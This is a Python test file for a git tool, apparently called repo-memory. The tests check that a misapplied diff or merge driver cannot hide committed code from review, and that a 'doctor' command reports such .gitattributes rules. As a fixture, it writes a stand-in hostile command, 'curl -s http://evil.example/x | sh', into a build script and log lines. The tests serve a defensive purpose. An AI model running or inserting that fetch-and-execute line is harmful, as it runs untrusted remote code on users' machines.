"""A committed .gitattributes line may give repo-memory's diff driver (or its skill merge driver) to any file: git then
shows what the driver prints instead of the file. The driver renders only experience records and shows every other
byte as committed, and doctor names the line that reaches files that are no memory."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from repo_memory.config import Config
from repo_memory.core.store import Store

from tests.conftest import git, initialised

PAYLOAD = "curl -s http://evil.example/x | sh"


def cli(repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "repo_memory", *args], cwd=repo, capture_output=True, text=True)


def upstream(tmp_path: Path, *lines: str) -> Path:
    """A repository set up by init, whose .gitattributes then gained `lines` and which committed a build script."""
    repo = initialised(tmp_path)
    with (repo / ".gitattributes").open("a", encoding="utf-8") as out:
        out.write("".join(f"{line}\n" for line in lines))
    (repo / "build.sh").write_text(f"#!/bin/sh\n{PAYLOAD}\nmake\n", encoding="utf-8")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "build script")
    return repo


def test_a_rule_giving_the_diff_driver_to_every_file_leaves_code_diffs_as_committed(tmp_path: Path):
    """`* diff=repo-memory` made `git show` of a build script print `[unreadable line at byte N: not JSON …]` for each
    of its lines, hiding the change from review. A file that holds no experience record now passes through as it is."""
    repo = upstream(tmp_path, "* diff=repo-memory")
    shown = git(repo, "show", "HEAD", "--format=", "--", "build.sh", ".gitattributes")
    assert f"+{PAYLOAD}\n" in shown and "+make\n" in shown and "+* diff=repo-memory\n" in shown, shown
    assert "unreadable" not in shown, shown


def test_a_line_that_is_no_record_shows_its_bytes_beside_the_records_rendered(tmp_path: Path):
    """A file whose first line is a valid record rendered its other lines as `[unreadable line …]`: a JSONL file given
    the driver, or a log a hand appended to, hid what those lines hold. Each now shows its bytes as committed, behind
    a marker (`[no record at byte N]`), so no such line passes for a record's rendering."""
    repo = upstream(tmp_path, "*.jsonl diff=repo-memory")
    store = Store(Config.load(repo), session="s1")
    store.remember("The flaky test depends on the system clock.", kind="decision")
    store.close()
    log = next((repo / ".agents/experience").rglob("*.jsonl"))
    record = log.read_bytes().splitlines()[0]
    odd = json.dumps({"run": PAYLOAD})
    (repo / "feed.jsonl").write_bytes(record + b"\n" + odd.encode() + b"\nnot json at all\n")
    with log.open("a", encoding="utf-8") as out:
        out.write(odd + "\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "feed")
    shown = git(repo, "show", "HEAD", "--format=", "--", "feed.jsonl", str(log.relative_to(repo)))
    assert "The flaky test depends on the system clock." in shown and '"sha256"' not in shown, shown
    assert shown.count(f"] {odd}\n") == 2 and "] not json at all\n" in shown and "unreadable" not in shown, shown


def test_doctor_names_a_rule_that_gives_repo_memorys_drivers_to_files_that_are_no_memory(tmp_path: Path):
    """Nothing in doctor named `* diff=repo-memory`. It now names each line, in whichever attributes file, that gives
    the diff driver or the skill merge driver to files outside what repo-memory's own rules cover, and says what to do."""
    repo = upstream(tmp_path, "* diff=repo-memory")
    (repo / "src").mkdir()
    (repo / "src/app.py").write_text("print('hi')\n", encoding="utf-8")
    (repo / "src/.gitattributes").write_text("# ours\n*.py merge=repo-memory-skill\n", encoding="utf-8")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "app")
    at = (repo / ".gitattributes").read_text(encoding="utf-8").splitlines().index("* diff=repo-memory") + 1
    said = {f["path"]: f for f in json.loads(cli(repo, "doctor", "--json").stdout) if "driver" in f["message"]}
    top, src = said[".gitattributes"], said["src/.gitattributes"]
    assert f"line {at} of .gitattributes, `* diff=repo-memory`" in top["message"] and "build.sh" in top["message"], top
    assert "diff driver" in top["message"] and "ake that line out of .gitattributes" in top["fix"], top
    assert "line 2 of src/.gitattributes, `*.py merge=repo-memory-skill`" in src["message"], src
    assert "src/app.py" in src["message"] and "merge driver" in src["message"], src
    clean = initialised(tmp_path, "clean")
    assert not [f for f in json.loads(cli(clean, "doctor", "--json").stdout) if "driver" in f["message"]]
